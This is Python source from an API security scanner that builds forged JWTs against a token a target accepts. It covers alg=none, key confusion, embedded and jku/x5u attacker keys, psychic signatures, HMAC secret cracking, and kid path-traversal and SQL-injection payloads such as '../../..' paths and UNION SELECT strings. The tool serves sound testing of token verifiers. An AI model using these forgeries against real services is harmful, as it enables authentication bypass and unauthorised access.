"""Forged-token variants: the tokens a careless verifier accepts.

pyjwt refuses to produce most of these (that is its job), so they are built
here from base64url, JSON and :mod:`cryptography` directly.  Each builder
takes a *baseline* token the target accepts and returns named variants;
:mod:`rest.jwt.probe` sends them and judges the answers.  Nothing here
verifies anything.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from functools import lru_cache
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from jwt.algorithms import ECAlgorithm, RSAAlgorithm

from rest.errors import BadInput
from rest.jwt.jose import b64url_decode, b64url_encode, encode_json

_HMAC_HASH = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


@dataclass(frozen=True)
class Forgery:
    """One forged token and what makes it forged (the label never holds secrets)."""

    check_id: str
    variant: str
    token: str


@dataclass(frozen=True)
class Baseline:
    """A token the target accepts, split into the parts forgeries reuse."""

    token: str
    h64: str
    p64: str
    s64: str
    header: dict[str, Any]
    claims: dict[str, Any]

    @classmethod
    def parse(cls, token: str) -> Baseline:
        token = token.strip()
        parts = token.split(".")
        if len(parts) != 3:
            raise BadInput("the baseline token is not a compact JWS (three dot-separated parts)")
        h64, p64, s64 = parts
        try:
            header = json.loads(_loose(h64))
            claims = json.loads(_loose(p64))
        except (ValueError, RecursionError):
            raise BadInput("the baseline token's header or payload is not base64url JSON") from None
        if not isinstance(header, dict) or not isinstance(claims, dict):
            raise BadInput("the baseline token's header and payload must be JSON objects")
        return cls(token, h64, p64, s64, header, claims)

    @property
    def alg(self) -> str:
        return str(self.header.get("alg", ""))


def _loose(seg: str) -> bytes:
    import base64

    return base64.urlsafe_b64decode(seg + "=" * (-len(seg) % 4))


def _h(header: Mapping[str, Any]) -> str:
    return b64url_encode(encode_json(dict(header)))


def _p(claims: Mapping[str, Any]) -> str:
    return b64url_encode(encode_json(dict(claims)))


def hmac_token(header: Mapping[str, Any], claims: Mapping[str, Any] | str, key: bytes) -> str:
    """HS-sign ``header``/``claims`` with ``key`` (any bytes, even empty)."""
    alg = str(header.get("alg", "HS256"))
    h64 = _h(header)
    p64 = claims if isinstance(claims, str) else _p(claims)
    mac = hmac.new(key, f"{h64}.{p64}".encode("ascii"), _HMAC_HASH.get(alg, hashlib.sha256)).digest()
    return f"{h64}.{p64}.{b64url_encode(mac)}"


def sign_token(header: Mapping[str, Any], claims: Mapping[str, Any], key: Any) -> str:
    """Sign with an RSA/EC private key (RS*/PS*/ES* by ``header['alg']``),
    producing JOSE raw ``r||s`` for ECDSA."""
    alg = str(header["alg"])
    h64, p64 = _h(header), _p(claims)
    data = f"{h64}.{p64}".encode("ascii")
    hash_cls = {"256": hashes.SHA256, "384": hashes.SHA384, "512": hashes.SHA512}[alg[2:]]
    if alg.startswith("RS") and isinstance(key, rsa.RSAPrivateKey):
        sig = key.sign(data, padding.PKCS1v15(), hash_cls())
    elif alg.startswith("PS") and isinstance(key, rsa.RSAPrivateKey):
        sig = key.sign(
            data, padding.PSS(mgf=padding.MGF1(hash_cls()), salt_length=hash_cls.digest_size), hash_cls()
        )
    elif alg.startswith("ES") and isinstance(key, ec.EllipticCurvePrivateKey):
        r, s = decode_dss_signature(key.sign(data, ec.ECDSA(hash_cls())))
        n = (key.curve.key_size + 7) // 8
        sig = r.to_bytes(n, "big") + s.to_bytes(n, "big")
    elif alg.startswith("HS") and isinstance(key, bytes):
        return hmac_token(header, claims, key)
    else:
        raise BadInput(f"cannot sign {alg} with a {type(key).__name__}")
    return f"{h64}.{p64}.{b64url_encode(sig)}"


@lru_cache(maxsize=4)
def attacker_key(kind: str = "RSA") -> Any:
    """A throw-away key the attacker controls (cached: generating RSA is slow)."""
    if kind == "EC":
        return ec.generate_private_key(ec.SECP256R1())
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def public_jwk(private_key: Any, kid: str | None = None) -> dict[str, Any]:
    """The public JWK of an attacker key."""
    pub = private_key.public_key()
    jwk = json.loads(
        RSAAlgorithm.to_jwk(pub) if isinstance(pub, rsa.RSAPublicKey) else ECAlgorithm.to_jwk(pub)
    )
    if kid:
        jwk["kid"] = kid
    jwk["use"] = "sig"
    return jwk


# ---------------------------------------------------------------- builders


def none_alg(b: Baseline) -> list[Forgery]:
    """``alg: none`` in four spellings, signature empty (RFC 8725 §2.1)."""
    return [
        Forgery("jwt.none-alg", f"alg={alg}", f"{_h({**b.header, 'alg': alg})}.{b.p64}.")
        for alg in ("none", "None", "NONE", "nOnE")
    ]


def unsigned(b: Baseline) -> list[Forgery]:
    """The original header and payload with the signature stripped."""
    return [
        Forgery("jwt.unsigned", "signature removed", f"{b.h64}.{b.p64}."),
        Forgery("jwt.unsigned", "signature and dot removed", f"{b.h64}.{b.p64}"),
    ]


def tampered_payload(b: Baseline) -> list[Forgery]:
    """Claims changed, original signature kept: accepted only if the signature is not checked."""
    claims = {**b.claims, "apisec_probe": "tampered"}
    return [
        Forgery("jwt.tampered-payload", "claim added, original signature", f"{b.h64}.{_p(claims)}.{b.s64}")
    ]


def key_confusion(b: Baseline, public_key: Any, raw: bytes | None = None) -> list[Forgery]:
    """HS256 keyed with the API's *public* key in every spelling a verifier may
    read from disk (CVE-2015-9235 and its kin).

    ``raw`` is the exact content of the key or certificate file the API
    publishes: a server that HMACs with ``open(path).read()`` uses *those*
    bytes (a certificate PEM as some IdPs publish it, trailing newline or not),
    which no re-serialisation reproduces.  Then the key itself: SPKI PEM (with,
    without final newline, CRLF), PKCS#1 PEM and DER for RSA, SPKI DER, and the
    certificate's DER when ``raw`` is a certificate.  Duplicates are sent once.
    """
    spellings: list[tuple[str, bytes]] = []
    if raw:
        body = raw.rstrip(b"\r\n")
        spellings.append(("the exact bytes of the given file", raw))
        spellings.append(("the given file without trailing newline", body))
        spellings.append(("the given file with one trailing newline", body + b"\n"))
        spellings.append(
            (
                "the given file with CRLF line ends",
                body.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n") + b"\r\n",
            )
        )
        if b"CERTIFICATE-----" in raw:
            from cryptography import x509

            try:
                cert = x509.load_pem_x509_certificate(raw)
                spellings.append(
                    ("the given certificate as DER", cert.public_bytes(serialization.Encoding.DER))
                )
            except ValueError:
                pass
    pem = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    spellings.append(("SPKI PEM", pem))
    spellings.append(("SPKI PEM without final newline", pem.rstrip(b"\n")))
    spellings.append(("SPKI PEM with CRLF", pem.replace(b"\n", b"\r\n")))
    if isinstance(public_key, rsa.RSAPublicKey):
        pkcs1 = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
        spellings.append(("PKCS#1 PEM", pkcs1))
        spellings.append(("PKCS#1 PEM without final newline", pkcs1.rstrip(b"\n")))
        spellings.append(
            (
                "PKCS#1 DER",
                public_key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.PKCS1),
            )
        )
    spellings.append(
        (
            "SPKI DER",
            public_key.public_bytes(
                serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
            ),
        )
    )
    header = {**b.header, "alg": "HS256"}
    seen: set[bytes] = set()
    out = []
    for name, key in spellings:
        if key and key not in seen:
            seen.add(key)
            out.append(
                Forgery("jwt.key-confusion", f"HS256 keyed with {name}", hmac_token(header, b.claims, key))
            )
    return out


def _attacker_alg(b: Baseline) -> tuple[str, str]:
    return ("EC", "ES256") if b.alg.startswith("ES") else ("RSA", "RS256")


def embedded_jwk(b: Baseline) -> list[Forgery]:
    """Signed by an attacker key whose public half rides in the header ``jwk``."""
    kind, alg = _attacker_alg(b)
    key = attacker_key(kind)
    out = []
    for label, kid in (("baseline kid", b.header.get("kid")), ("attacker kid", "apisec-embedded")):
        if label == "baseline kid" and kid is None:
            continue
        header = {**b.header, "alg": alg, "jwk": public_jwk(key, kid), "kid": kid}
        out.append(Forgery("jwt.embedded-jwk", f"header jwk, {label}", sign_token(header, b.claims, key)))
    x5c = base64.b64encode(attacker_certificate(kind).public_bytes(serialization.Encoding.DER)).decode()
    header = {k: v for k, v in b.header.items() if k != "kid"} | {"alg": alg, "x5c": [x5c]}
    out.append(
        Forgery("jwt.embedded-jwk", "header x5c, self-signed certificate", sign_token(header, b.claims, key))
    )
    return out


def jku_injection(
    b: Baseline, jwks_url: str, kid: str = "apisec-jku", x5u_url: str | None = None
) -> list[Forgery]:
    """Signed by an attacker key published at ``jwks_url`` (header ``jku``)
    and, with ``x5u_url``, as a certificate there (header ``x5u``)."""
    kind, alg = _attacker_alg(b)
    key = attacker_key(kind)
    header = {**b.header, "alg": alg, "jku": jwks_url, "kid": kid}
    out = [Forgery("jwt.jku-injection", "header jku to attacker JWKS", sign_token(header, b.claims, key))]
    if x5u_url:
        header = {k: v for k, v in b.header.items() if k != "kid"} | {"alg": alg, "x5u": x5u_url}
        out.append(
            Forgery(
                "jwt.jku-injection", "header x5u to attacker certificate", sign_token(header, b.claims, key)
            )
        )
    return out


@lru_cache(maxsize=4)
def attacker_certificate(kind: str = "RSA") -> Any:
    """A self-signed certificate for :func:`attacker_key` (x5c / x5u probes)."""
    import datetime as dt

    from cryptography import x509
    from cryptography.x509.oid import NameOID

    key = attacker_key(kind)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "apisec forged-token probe")])
    now = dt.datetime.now(dt.UTC)
    return (
        x509.CertificateBuilder()
        .subject_name(name).issuer_name(name).public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1)).not_valid_after(now + dt.timedelta(days=30))
        .sign(key, hashes.SHA256())
    )  # fmt: skip


def attacker_certificate_pem(b: Baseline) -> bytes:
    kind, _ = _attacker_alg(b)
    return attacker_certificate(kind).public_bytes(serialization.Encoding.PEM)


def jku_document(b: Baseline, kid: str = "apisec-jku") -> dict[str, Any]:
    kind, _ = _attacker_alg(b)
    return {"keys": [public_jwk(attacker_key(kind), kid)]}


#: (label, kid, the HMAC key a vulnerable server then uses).  Each payload assumes a
#: server that turns ``kid`` into key bytes without an allow-list:
#:
#: * file paths (``open(base + kid).read()``): the key is the file's content, so
#:   only files whose content an attacker can predict are useful.
#:   ``/proc/sys/kernel/ostype`` reads ``Linux\n`` on every Linux kernel (and in
#:   every container); ``/proc/sys/kernel/randomize_va_space`` reads ``2\n`` on any
#:   default-configured Linux; both are tried with and without the newline (a
#:   server may strip it).  ``/dev/null`` (empty key) catches libraries that accept
#:   an empty HMAC key; PyJWT >= 2.10 and most current ones refuse it, which is why
#:   the non-empty files matter.  Relative traversal (``../`` x 8) and absolute
#:   paths both, because servers either join or pass the value through;
#: * SQL (``SELECT key FROM keys WHERE kid = '<kid>'``): a UNION that selects the
#:   literal ``apisec``, closed by a comment or by the server's own closing quote,
#:   and a numeric-context variant; valid in SQLite, PostgreSQL and MySQL;
#: * the empty kid with an empty key (a lookup that falls back to "").
_TRAVERSAL = "../../../../../../../.."
KID_INJECTIONS: tuple[tuple[str, str, bytes], ...] = (
    ("kid path traversal to /proc/sys/kernel/ostype ('Linux\\n')", f"{_TRAVERSAL}/proc/sys/kernel/ostype", b"Linux\n"),
    ("kid path traversal to /proc/sys/kernel/ostype, newline stripped", f"{_TRAVERSAL}/proc/sys/kernel/ostype", b"Linux"),
    ("kid absolute /proc/sys/kernel/ostype ('Linux\\n')", "/proc/sys/kernel/ostype", b"Linux\n"),
    ("kid absolute /proc/sys/kernel/ostype, newline stripped", "/proc/sys/kernel/ostype", b"Linux"),
    ("kid path traversal to /proc/sys/kernel/randomize_va_space ('2\\n')", f"{_TRAVERSAL}/proc/sys/kernel/randomize_va_space", b"2\n"),
    ("kid absolute /proc/sys/kernel/randomize_va_space ('2\\n')", "/proc/sys/kernel/randomize_va_space", b"2\n"),
    ("kid path traversal to /dev/null, empty key", f"{_TRAVERSAL}/dev/null", b""),
    ("kid absolute /dev/null, empty key", "/dev/null", b""),
    ("kid empty string, empty key", "", b""),
    ("kid SQL injection: UNION SELECT 'apisec', comment", "apisec-none' UNION SELECT 'apisec' -- ", b"apisec"),
    ("kid SQL injection: UNION SELECT 'apisec', server's closing quote", "apisec-none' UNION SELECT 'apisec", b"apisec"),
    ("kid SQL injection: numeric UNION SELECT 'apisec'", "-1 UNION SELECT 'apisec'", b"apisec"),
)  # fmt: skip


def kid_injection(b: Baseline) -> list[Forgery]:
    """``kid`` used as a file path or SQL fragment, HS256 keyed with what it then yields."""
    return [
        Forgery(
            "jwt.kid-injection", label, hmac_token({**b.header, "alg": "HS256", "kid": kid}, b.claims, key)
        )
        for label, kid, key in KID_INJECTIONS
    ]


def psychic_signature(b: Baseline) -> list[Forgery]:
    """ES256 with r = s = 0 (CVE-2022-21449)."""
    header = {**b.header, "alg": "ES256"}
    return [
        Forgery("jwt.psychic-signature", "ES256 r=s=0", f"{_h(header)}.{b.p64}.{b64url_encode(bytes(64))}"),
        Forgery("jwt.psychic-signature", "ES256 r=s=0, claim added", f"{_h(header)}.{_p({**b.claims, 'apisec_probe': 'psychic'})}.{b64url_encode(bytes(64))}"),
    ]  # fmt: skip


def crack_hmac(b: Baseline, words: Iterable[str]) -> tuple[int, str] | None:
    """Try each word as the HS secret of the baseline; (index, word) when found."""
    hash_fn = _HMAC_HASH.get(b.alg)
    if hash_fn is None:
        return None
    data = f"{b.h64}.{b.p64}".encode("ascii")
    try:
        target = b64url_decode(b.s64, what="signature")
    except Exception:  # noqa: BLE001 - a malformed baseline signature cannot be cracked
        return None
    for i, word in enumerate(words):
        if hmac.compare_digest(hmac.new(word.encode("utf-8"), data, hash_fn).digest(), target):
            return i, word
    return None


WHITE_BOX = ("jwt.expired", "jwt.not-yet-valid", "jwt.wrong-audience", "jwt.wrong-issuer", "jwt.missing-exp")


def white_box(b: Baseline, signing_key: Any, now: float | None = None) -> tuple[Forgery, list[Forgery]]:
    """Correctly signed tokens with bad claims (needs the API's own signing key).

    Returns a *control* (fresh, valid claims: must be accepted, proving the key
    is the API's) and the variants."""
    now = int(time.time() if now is None else now)
    base = dict(b.claims)
    life = 600
    if isinstance(base.get("exp"), (int, float)) and isinstance(base.get("iat"), (int, float)):
        life = max(int(base["exp"] - base["iat"]), 60)
    fresh = {**base, "iat": now, "exp": now + life}
    fresh.pop("nbf", None)
    header = {k: v for k, v in b.header.items() if k not in ("jwk", "jku", "x5u", "x5c")}

    def mk(check: str, label: str, claims: dict[str, Any]) -> Forgery:
        return Forgery(check, label, sign_token(header, claims, signing_key))

    control = mk("control", "fresh claims", fresh)
    expired = {**fresh, "iat": now - 2 * life - 3600, "exp": now - 3600}
    future = {**fresh, "nbf": now + 3600}
    aud = {**fresh, "aud": "https://wrong-audience.apisec.invalid"}
    iss = {**fresh, "iss": "https://wrong-issuer.apisec.invalid"}
    no_exp = {k: v for k, v in fresh.items() if k != "exp"}
    return control, [
        mk("jwt.expired", "exp one hour ago", expired),
        mk("jwt.not-yet-valid", "nbf one hour ahead", future),
        mk("jwt.wrong-audience", "aud of another API", aud),
        mk("jwt.wrong-issuer", "iss of another issuer", iss),
        mk("jwt.missing-exp", "no exp claim", no_exp),
    ]


# ---------------------------------------------------------------- Validator suite extras


def duplicate_member_header(b: Baseline, extra_alg: str = "none") -> str:
    """A header naming ``alg`` twice (parsers disagree on which wins)."""
    raw = encode_json(b.header)[:-1] + f',"alg":"{extra_alg}"}}'.encode()
    return f"{b64url_encode(raw)}.{b.p64}.{b.s64}"


def der_ecdsa(token: str) -> str:
    """Re-encode a JOSE ES* signature as ASN.1 DER (JWS requires raw r||s)."""
    from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature

    h64, p64, s64 = token.split(".")
    raw = b64url_decode(s64)
    n = len(raw) // 2
    der = encode_dss_signature(int.from_bytes(raw[:n], "big"), int.from_bytes(raw[n:], "big"))
    return f"{h64}.{p64}.{b64url_encode(der)}"


def with_crit(b: Baseline, key: Any, ext: str = "apisec-ext") -> str:
    """A validly signed token declaring a critical extension nobody implements."""
    header = {**b.header, "crit": [ext], ext: True}
    return sign_token(header, b.claims, key)


def padded_b64(token: str) -> str:
    """Base64 padding added to each part (non-canonical)."""
    return ".".join(seg + "=" * (-len(seg) % 4) for seg in token.split("."))
